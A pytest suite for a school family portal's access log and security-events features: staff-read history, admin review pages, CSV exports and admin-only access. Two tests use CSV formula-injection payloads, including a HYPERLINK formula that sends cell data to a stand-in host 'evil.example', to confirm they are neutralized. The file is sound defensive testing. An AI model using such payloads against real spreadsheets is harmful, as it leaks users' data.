"""Who looked, and what went wrong: staff reads of household data, and security events.

A family sees in its history when staff opened its household; administrators
review those reads and the security events (failed and limited sign-ins,
credential changes, refused access, used invitations), on a page and as CSV.
"""

import csv
import html
import io
import re
from collections.abc import Callable
from datetime import timedelta

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from portal.db import utcnow
from portal.models import AuditEvent, Department, DepartmentMember, Household, SecurityEvent, Student, User
from portal.services import requests
from portal.services.calendar import district_calendar
from portal.services.households import access_log
from tests import factories
from tests.conftest import Browser
from tests.web.support import redirects_to_sign_in, submit, text, without_tokens

SIGN_IN_LIMIT = 3
NEW_PASSWORD = "purple elephants juggle quietly"
ATTACHMENT = re.compile(r'^attachment; filename="(?P<stem>[a-z-]+)-\d{8}-\d{6}\.csv"$')


@pytest.fixture
def app_config() -> dict[str, object]:
    return {"SIGN_IN_LIMIT_PER_ACCOUNT": f"{SIGN_IN_LIMIT} per 15 minutes"}


def signed_in(app: Flask, user: User) -> FlaskClient:
    client = app.test_client()
    Browser(client, app).sign_in(user.email)
    return client


def guardian_of(db: Session, household: Household) -> User:
    return factories.guardians_of(db, household)[0]


def view_count(db: Session) -> int:
    db.expire_all()
    return db.scalar(select(func.count()).select_from(AuditEvent).where(AuditEvent.action == access_log.VIEW_ACTION))


def read_csv(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeff")  # so that spreadsheets read UTF-8 names right
    return list(csv.reader(io.StringIO(body[1:], newline="")))


def assert_is_csv_attachment(response, stem: str) -> None:  # type: ignore[no-untyped-def]
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    match = ATTACHMENT.match(response.headers["Content-Disposition"])
    assert match, response.headers["Content-Disposition"]
    assert match["stem"] == stem
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Cache-Control"] == "no-store"


# Staff reads in the family's history ----------------------------------------------------


def test_a_staff_read_appears_in_the_familys_history_with_the_staff_members_name(app, db):
    household = factories.make_household(db, name="Okafor household")
    staff = factories.make_staff(db, name="Dana Whitfield")
    assert signed_in(app, staff).get(f"/staff/households/{household.id}").status_code == 200

    family = signed_in(app, guardian_of(db, household))
    page = family.get("/family/history")
    assert page.status_code == 200
    assert "Dana Whitfield (staff) opened your household's page" in html.unescape(text(page))


def test_a_staff_read_names_the_staff_members_departments(app, db):
    household = factories.make_household(db)
    staff = factories.make_staff(db, name="Dana Whitfield")
    for name in ("Transportation", "Enrollment"):
        department = Department(name=name)
        db.add(department)
        db.flush()
        db.add(DepartmentMember(department_id=department.id, user_id=staff.id))
    db.commit()
    signed_in(app, staff).get(f"/staff/households/{household.id}")
    page = html.unescape(text(signed_in(app, guardian_of(db, household)).get("/family/history")))
    assert "Dana Whitfield (Enrollment, Transportation) opened your household's page" in page


def test_an_admin_read_is_shown_as_an_administrators(app, db):
    household = factories.make_household(db)
    admin = factories.make_admin(db, name="Ada Lindqvist")
    signed_in(app, admin).get(f"/staff/households/{household.id}")
    page = html.unescape(text(signed_in(app, guardian_of(db, household)).get("/family/history")))
    assert "Ada Lindqvist (administrator) opened your household's page" in page


def test_a_family_does_not_see_reads_of_another_household(app, db):
    read, other = factories.make_household(db), factories.make_household(db)
    signed_in(app, factories.make_staff(db, name="Dana Whitfield")).get(f"/staff/households/{read.id}")
    page = text(signed_in(app, guardian_of(db, other)).get("/family/history"))
    assert "Dana Whitfield" not in page
    assert "opened your household" not in page


def household_page(db: Session, household: Household, *staff: User) -> str:
    return f"/staff/households/{household.id}"


def request_page(db: Session, household: Household, *staff: User) -> str:
    """A request of the household's, asked of a department every one of `staff` works in."""
    department = factories.make_department(db)
    for member in staff:
        factories.join(db, member, department)
    new = requests.NewRequest(department_id=department.id, subject="Bus stop", body="Which stop is ours?")
    calendar = district_calendar.load_calendar(db, "America/Los_Angeles")
    asked, _is_new = requests.submit_request(db, guardian_of(db, household), new, calendar=calendar, now=utcnow())
    db.commit()
    return f"/staff/requests/{asked.id}"


# The pages that record a look at a household (each reads whether the staff member looked
# lately along with the household: access_log.viewed_recently).
LOOKING_PAGES = [pytest.param(household_page, id="household-page"), pytest.param(request_page, id="request-page")]


@pytest.mark.parametrize("page_of", LOOKING_PAGES)
def test_a_second_view_within_ten_minutes_is_not_recorded_twice(app, db, page_of):
    household, staff = factories.make_household(db), factories.make_staff(db)
    url = page_of(db, household, staff)
    staff_client = signed_in(app, staff)
    for _ in range(3):
        assert staff_client.get(url).status_code == 200
    assert view_count(db) == 1

    history = html.unescape(text(signed_in(app, guardian_of(db, household)).get("/family/history")))
    assert history.count("opened your household's page") == 1

    # Eleven minutes later it is a new look.
    [first_view] = db.scalars(select(AuditEvent).where(AuditEvent.action == access_log.VIEW_ACTION))
    first_view.created_at -= timedelta(minutes=11)
    db.commit()
    assert staff_client.get(url).status_code == 200
    assert view_count(db) == 2


@pytest.mark.parametrize("page_of", LOOKING_PAGES)
def test_views_of_two_households_or_by_two_staff_members_are_each_recorded(app, db, page_of):
    first, second = factories.make_household(db), factories.make_household(db)
    dana, sam = factories.make_staff(db), factories.make_staff(db)
    first_page, second_page = page_of(db, first, dana, sam), page_of(db, second, dana)
    dana_client, sam_client = signed_in(app, dana), signed_in(app, sam)
    for client, url in ((dana_client, first_page), (dana_client, second_page), (sam_client, first_page)):
        assert client.get(url).status_code == 200
    assert view_count(db) == 3
    # Each look is recorded as its staff member's, of its household.
    looks = db.execute(
        select(AuditEvent.actor_id, AuditEvent.household_id).where(AuditEvent.action == access_log.VIEW_ACTION)
    )
    assert sorted(looks) == sorted([(dana.id, first.id), (dana.id, second.id), (sam.id, first.id)])


def test_a_missing_household_records_no_view(app, db):
    staff_client = signed_in(app, factories.make_staff(db))
    assert staff_client.get("/staff/households/999999").status_code == 404
    assert view_count(db) == 0


# The admin review of reads ---------------------------------------------------------------


@pytest.fixture
def two_reads(app, db):  # type: ignore[no-untyped-def]
    """Dana opened the Okafor household, Sam the Lindqvist household."""
    okafor = factories.make_household(db, name="Okafor household")
    lindqvist = factories.make_household(db, name="Lindqvist household")
    dana = factories.make_staff(db, name="Dana Whitfield")
    sam = factories.make_staff(db, name="Sam Oduya")
    signed_in(app, dana).get(f"/staff/households/{okafor.id}")
    signed_in(app, sam).get(f"/staff/households/{lindqvist.id}")
    return okafor, lindqvist, dana, sam


def test_admins_review_who_opened_which_household(app, db, two_reads):
    admin = signed_in(app, factories.make_admin(db))
    page = admin.get("/admin/access-log")
    assert page.status_code == 200
    body = text(page)
    for name in ("Okafor household", "Lindqvist household", "Dana Whitfield", "Sam Oduya"):
        assert name in body


def test_the_access_log_filters_by_household(app, db, two_reads):
    okafor, _lindqvist, _dana, _sam = two_reads
    body = text(signed_in(app, factories.make_admin(db)).get(f"/admin/access-log?household={okafor.id}"))
    assert "Okafor household" in body
    assert "Dana Whitfield" in body
    assert "Lindqvist household" not in body
    assert "Sam Oduya" not in body


def test_the_access_log_filters_by_staff_member(app, db, two_reads):
    _okafor, _lindqvist, _dana, sam = two_reads
    body = text(signed_in(app, factories.make_admin(db)).get(f"/admin/access-log?staff={sam.id}"))
    assert "Sam Oduya" in body
    assert "Lindqvist household" in body
    assert "Dana Whitfield" not in body
    assert "Okafor household" not in body


def test_the_access_log_downloads_as_a_csv_attachment(app, db, two_reads):
    okafor, _lindqvist, dana, _sam = two_reads
    admin = signed_in(app, factories.make_admin(db))
    everything = admin.get("/admin/access-log.csv")
    assert_is_csv_attachment(everything, "household-access-log")
    header, *rows = read_csv(everything)
    assert header == [
        "time",
        "staff_id",
        "staff_name",
        "staff_email",
        "household_id",
        "household_name",
        "what",
        "ip_address",
    ]
    assert sorted(row[2] for row in rows) == ["Dana Whitfield", "Sam Oduya"]

    filtered = admin.get(f"/admin/access-log.csv?household={okafor.id}&filename=evil.html")
    assert_is_csv_attachment(filtered, "household-access-log")
    _header, *rows = read_csv(filtered)
    assert [(row[1], row[2], row[4], row[5], row[6]) for row in rows] == [
        (str(dana.id), "Dana Whitfield", str(okafor.id), "Okafor household", "household")
    ]


def test_hostile_names_in_the_access_log_csv_are_neutralized(app, db):
    household = factories.make_household(db, name='=HYPERLINK("http://evil.example/","open")')
    signed_in(app, factories.make_staff(db, name="@SUM(1+1)")).get(f"/staff/households/{household.id}")
    _header, row = read_csv(signed_in(app, factories.make_admin(db)).get("/admin/access-log.csv"))
    assert row[2] == "'@SUM(1+1)"
    assert row[5] == "'" + '=HYPERLINK("http://evil.example/","open")'


@pytest.mark.parametrize("path", ["/admin/access-log", "/admin/access-log.csv"])
def test_only_admins_review_the_access_log(app, db, path):
    household = factories.make_household(db)
    assert signed_in(app, factories.make_staff(db)).get(path).status_code == 403
    assert signed_in(app, guardian_of(db, household)).get(path).status_code == 403
    assert redirects_to_sign_in(app.test_client().get(path))


# Security events ----------------------------------------------------------------------------------


def fail_sign_in(app: Flask, db: Session) -> str:
    user = factories.make_user(db)
    refused = submit(app.test_client(), "/sign-in", {"email": user.email, "password": "not the right password"})
    assert refused.status_code == 200
    return user.email


def get_rate_limited(app: Flask, db: Session) -> str:
    user = factories.make_user(db)
    client = app.test_client()
    for _ in range(SIGN_IN_LIMIT):
        submit(client, "/sign-in", {"email": user.email, "password": "not the right password"})
    limited = submit(client, "/sign-in", {"email": user.email, "password": factories.PASSWORD})
    assert limited.status_code == 429
    return user.email


def change_password(app: Flask, db: Session) -> str:
    user = guardian_of(db, factories.make_household(db))
    changed = submit(
        signed_in(app, user),
        "/password",
        {"current_password": factories.PASSWORD, "password": NEW_PASSWORD, "confirm": NEW_PASSWORD},
    )
    assert changed.status_code == 302
    return user.email


def reset_password(app: Flask, db: Session) -> str:
    user = factories.make_user(db)
    with app.app_context():
        token = factories.reset_token(db, user)
    reset = submit(app.test_client(), f"/reset-password/{token}", {"password": NEW_PASSWORD, "confirm": NEW_PASSWORD})
    assert reset.status_code == 302
    return user.email


def open_another_households_student(app: Flask, db: Session) -> str:
    own, other = factories.make_household(db), factories.make_household(db)
    other_student = db.scalar(select(Student.id).where(Student.household_id == other.id))
    user = guardian_of(db, own)
    assert signed_in(app, user).get(f"/family/students/{other_student}").status_code == 404
    return user.email


def use_an_invitation(app: Flask, db: Session) -> str:
    user = factories.make_user(db, activated=False)
    with app.app_context():
        issued = factories.invite(db, user)
    accepted = submit(
        app.test_client(), f"/invitation/{issued.token}", {"password": NEW_PASSWORD, "confirm": NEW_PASSWORD}
    )
    assert accepted.status_code == 302
    return user.email


SECURITY_ACTIONS: list[tuple[str, Callable[[Flask, Session], str]]] = [
    ("sign_in_failed", fail_sign_in),
    ("rate_limited", get_rate_limited),
    ("password_changed", change_password),
    ("password_reset", reset_password),
    ("access_refused", open_another_households_student),
    ("invitation_accepted", use_an_invitation),
]


def event_row(kind: str, email: str) -> re.Pattern[str]:
    """A row of the security events table: time, kind, account."""
    return re.compile(rf"<tr><td>[^<]*</td><td>{kind}</td><td class=\"break\">{re.escape(email)}</td>")


@pytest.mark.parametrize(("kind", "action"), SECURITY_ACTIONS, ids=[kind for kind, _ in SECURITY_ACTIONS])
def test_each_security_event_appears_for_admins(app, db, kind, action):
    email = action(app, db)

    [event] = db.scalars(select(SecurityEvent).where(SecurityEvent.kind == kind))
    assert event.email == email
    assert event.ip_address == "127.0.0.1"
    admin = signed_in(app, factories.make_admin(db))
    for path in ("/admin/security-events", f"/admin/security-events?kind={kind}"):
        page = admin.get(path)
        assert page.status_code == 200
        assert event_row(kind, email).search(text(page)), f"{kind} for {email} is not listed on {path}"


def test_a_refused_access_answers_like_a_missing_page_and_only_the_refusal_is_logged(app, db):
    own, other = factories.make_household(db), factories.make_household(db)
    other_student = db.scalar(select(Student.id).where(Student.household_id == other.id))
    family = signed_in(app, guardian_of(db, own))

    refused = family.get(f"/family/students/{other_student}")
    missing = family.get("/family/students/999999")
    assert refused.status_code == missing.status_code == 404
    # The same page, but for the path in the language switch's `next` field and the CSRF
    # tokens (signed with the second they were made in).
    assert without_tokens(text(refused)).replace(f"/students/{other_student}", "") == without_tokens(
        text(missing)
    ).replace("/students/999999", "")
    [event] = db.scalars(select(SecurityEvent).where(SecurityEvent.kind == "access_refused"))
    assert event.detail == {"path": f"/family/students/{other_student}"}


def test_the_kind_filter_shows_only_that_kind(app, db):
    failed = fail_sign_in(app, db)
    changed = change_password(app, db)
    body = text(signed_in(app, factories.make_admin(db)).get("/admin/security-events?kind=password_changed"))
    assert event_row("password_changed", changed).search(body)
    assert failed not in body


def test_security_events_download_as_a_csv_attachment_with_neutralized_cells(app, db):
    fail_sign_in(app, db)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")@example.org'
    submit(app.test_client(), "/sign-in", {"email": hostile, "password": "whatever it is"})
    admin = signed_in(app, factories.make_admin(db))

    download = admin.get("/admin/security-events.csv?filename=evil.html")
    assert_is_csv_attachment(download, "security-events")
    header, *rows = read_csv(download)
    assert header == ["time", "kind", "user_id", "email", "ip_address", "user_agent"]
    assert {row[1] for row in rows} == {"sign_in_failed"}
    assert "'" + hostile in [row[3] for row in rows]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)

    only_changes = read_csv(admin.get("/admin/security-events.csv?kind=password_changed"))
    assert only_changes[1:] == []


@pytest.mark.parametrize("path", ["/admin/security-events", "/admin/security-events.csv"])
def test_only_admins_see_security_events(app, db, path):
    household = factories.make_household(db)
    assert signed_in(app, factories.make_staff(db)).get(path).status_code == 403
    assert signed_in(app, guardian_of(db, household)).get(path).status_code == 403
    assert redirects_to_sign_in(app.test_client().get(path))
